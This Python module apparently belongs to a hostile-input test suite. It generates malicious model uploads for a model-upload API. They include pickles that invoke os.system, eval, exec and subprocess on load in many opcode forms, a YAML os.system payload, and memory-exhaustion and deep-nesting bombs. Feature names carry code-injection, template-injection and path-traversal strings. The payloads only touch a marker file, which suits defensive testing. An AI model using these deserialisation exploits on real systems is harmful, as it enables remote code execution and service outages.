"""Model files that are programs, or that claim to be larger than all memory; uploaded by staff."""

import gzip
import io
import json
import pickle
import pickletools
import struct
import zipfile
from collections.abc import Iterator
from typing import Any

from benchmarks.hostile.payloads import Bait
from benchmarks.hostile.wire import Attack, request

MODELS = "/api/models/homes/"
BOUNDARY = "hostile"
CATEGORY = "pickles"


class _Calls:
    """Pickled as a call of `function`."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> Any:
        return self._call


def pickle_attacks(bait: Bait) -> Iterator[Attack]:
    """Each is a whole upload with feature names that fit."""
    for name, content in {**_calls(bait), **_nested(bait), **_lies(), **_others(bait)}.items():
        yield Attack(CATEGORY, name, upload(content))
    for name, features in _features(bait).items():
        yield Attack(CATEGORY, f"features: {name}", upload(pickle.dumps(1), features))


def upload(model: bytes, features: bytes = b'["bedrooms", "sqft_living"]') -> bytes:
    parts = b"".join(
        f"--{BOUNDARY}\r\n".encode()
        + f'Content-Disposition: form-data; name="{name}"; filename="{name}"\r\n\r\n'.encode()
        + content
        + b"\r\n"
        for name, content in (("model", model), ("features", features))
    )
    data = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="data"\r\n\r\nsynthetic\r\n'
    body = parts + data.encode() + f"--{BOUNDARY}--\r\n".encode()
    headers = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
    return request("POST", MODELS, body, headers)


def _calls(bait: Bait) -> dict[str, bytes]:
    """A call of what is not listed, in every way a pickle has to name it."""
    deed = f"touch {bait.file}"
    code = f"open({bait.file!r}, 'w').close()"
    called = {
        "os.system": ("os", "system", deed),
        "posix.system": ("posix", "system", deed),
        "subprocess.getoutput": ("subprocess", "getoutput", deed),
        "builtins.eval": ("builtins", "eval", f"open({bait.file!r}, 'w')"),
        "builtins.exec": ("builtins", "exec", code),
        "__builtin__.eval": ("__builtin__", "eval", f"open({bait.file!r}, 'w')"),
        "runpy": ("runpy", "run_path", bait.file),
        "webbrowser": ("webbrowser", "open", bait.url),
        "urllib": ("urllib.request", "urlopen", bait.url),
        "timeit": ("timeit", "timeit", code),
        "pdb": ("pdb", "run", code),
        "numpy": ("numpy.testing._private.utils", "runstring", code),
        "numpy's load": ("numpy", "load", bait.file),
        "numpy's fromfile": ("numpy", "fromfile", bait.file),
        "pandas": ("pandas", "read_pickle", bait.url),
        "joblib": ("joblib", "load", bait.file),
        "sklearn": ("sklearn.utils._joblib", "load", bait.file),
        "importlib": ("importlib", "import_module", "antigravity"),
        "pickle in a pickle": ("pickle", "loads", "cos\nsystem\n"),
        "django": ("django.core.management", "call_command", "flush"),
    }
    found = {}
    for name, (module, function, argument) in called.items():
        for spelling, named in _named(module, function).items():
            call = named + b"X" + struct.pack("<I", len(argument)) + argument.encode() + b"\x85R."
            found[f"{name}, {spelling}"] = call
    for protocol in range(6):
        found[f"reduce, protocol {protocol}"] = pickle.dumps(_Calls(eval, "1"), protocol)
    found["OBJ"] = f"(cos\nsystem\nS'{deed}'\no.".encode()
    found["INST"] = f"(S'{deed}'\nios\nsystem\n.".encode()
    found["BUILD"] = b"cnumpy\nndarray\n)\x81}X\x05\x00\x00\x00__classcos\nsystem\nsb."
    found["NEWOBJ_EX"] = b"\x80\x04cos\nsystem\n)}\x92."
    found["EXT1"] = b"\x80\x02\x82\x01."
    found["PERSID"] = f"P{deed}\n.".encode()
    return found


def _named(module: str, function: str) -> dict[str, bytes]:
    texts = b"".join(b"\x8c" + bytes([len(text)]) + text.encode() for text in (module, function))
    dotted = b"".join(
        b"\x8c" + bytes([len(text)]) + text.encode() for text in ("sklearn", f"{module}.{function}")
    )
    return {
        "GLOBAL": f"c{module}\n{function}\n".encode(),
        "STACK_GLOBAL": b"\x80\x04" + texts + b"\x93",
        "through another module": b"\x80\x04" + dotted + b"\x93",
    }


def _nested(bait: Bait) -> dict[str, bytes]:
    deed = b"cos\nsystem\n(S'touch " + bait.file.encode() + b"'\ntR"
    wrapped = b"csklearn.pipeline\nPipeline\n)\x81}X\x05\x00\x00\x00steps](" + deed + b"ae" + b"sb."
    return {
        "in a list": b"](" + deed + b"e.",
        "in a pipeline": wrapped,
        "as a key": b"}" + deed + b"I1\ns.",
        "behind a good one": pickle.dumps([1, 2, 3])[:-1] + b"0" + deed + b".",
        "behind the end": pickle.dumps([1, 2, 3]) + deed + b".",
        "1,000 frames": b"\x80\x04" + (b"\x95" + struct.pack("<Q", 1) + b"0") * 1000 + b".",
        "lists in lists": b"]" * 100_000 + b"a" * 99_999 + b".",
        "tuples in tuples": b")" + b"\x85" * 200_000 + b".",
        "laughing tuples": b")" + b"2\x86" * 60 + b".",
        "laughing lists": b"](I1\ne" + b"q\x00h\x00h\x00\x86" * 40 + b".",
        "a memo for each": b"".join(b"]r" + struct.pack("<I", place) for place in range(50_000))
        + b".",
        "a memo far away": b"]r" + struct.pack("<I", 2**32 - 2) + b".",
        "itself": b"]q\x00h\x00a.",
    }


def _lies() -> dict[str, bytes]:
    """They say that more follows than there is memory."""
    return {
        "BINBYTES8": b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"a.",
        "BYTEARRAY8": b"\x80\x05\x96" + struct.pack("<Q", 2**40) + b"a.",
        "BINUNICODE8": b"\x80\x04\x8d" + struct.pack("<Q", 2**40) + b"a.",
        "BINBYTES": b"\x80\x03B" + struct.pack("<I", 2**32 - 1) + b"a.",
        "LONG4": b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"a.",
        "LONG4 negative": b"\x80\x02\x8b" + struct.pack("<i", -1) + b"a.",
        "LONG of digits": b"L" + b"9" * 1_000_000 + b"L\n.",
        "INT of digits": b"I" + b"9" * 1_000_000 + b"\n.",
        "FRAME": b"\x80\x04\x95" + struct.pack("<Q", 2**63) + b"N.",
        "an array of 8 TB": _array(2**40),
        "an array of -1": _array(-1),
        "an array of objects": _array(10, "O"),
    }


def _array(size: int, kind: str = "f8") -> bytes:
    """What numpy writes for an array, which says another size."""
    return (
        b"\x80\x02cnumpy._core.multiarray\n_reconstruct\ncnumpy\nndarray\n(I0\ntS'b'\n\x87R"
        + f"(I1\n(I{size}\ntcnumpy\ndtype\n(S'{kind}'\nI0\nI1\ntRI00\nS'aaaa'\ntb.".encode()
    )


def _others(bait: Bait) -> dict[str, bytes]:
    """No pickles at all, or none of a model."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.pkl", f"cos\nsystem\n(S'touch {bait.file}'\ntR.")
        archive.writestr("weights", bytes(20 * 1024 * 1024))
    plain = pickle.dumps({"a": 1})
    return {
        "a zip, as torch saves": file.getvalue(),
        "gzip of 50 MB": gzip.compress(bytes(50 * 1024 * 1024)),
        "joblib's zlib": b"\x78\x9c" + bytes(100),
        "HDF5": b"\x89HDF\r\n\x1a\n" + bytes(2000),
        "ELF": b"\x7fELF\x02\x01\x01" + bytes(2000),
        "shell": f"#!/bin/sh\ntouch {bait.file}\n".encode(),
        "YAML": f"!!python/object/apply:os.system ['touch {bait.file}']".encode(),
        "a number": pickle.dumps(1),
        "a dict": plain,
        "optimised": pickletools.optimize(plain),
        "half": plain[: len(plain) // 2],
        "no STOP": plain[:-1],
        "only STOP": b".",
        "zeros": bytes(100_000),
    }


def _features(bait: Bait) -> dict[str, bytes]:
    names = (
        f"__import__('os').system('touch {bait.file}')",
        "{{ 7919*7923+580 }}",
        "../../x",
        "a\x00b",
    )
    return {
        **{name[:20]: json.dumps([name]).encode() for name in names},
        "deep": b"[" * 20_000 + b"]" * 20_000,
        "a pickle": pickle.dumps(["bedrooms"]),
        "no list": b'{"bedrooms": 1}',
        "10,000": json.dumps([f"f{number}" for number in range(5000)]).encode(),
    }
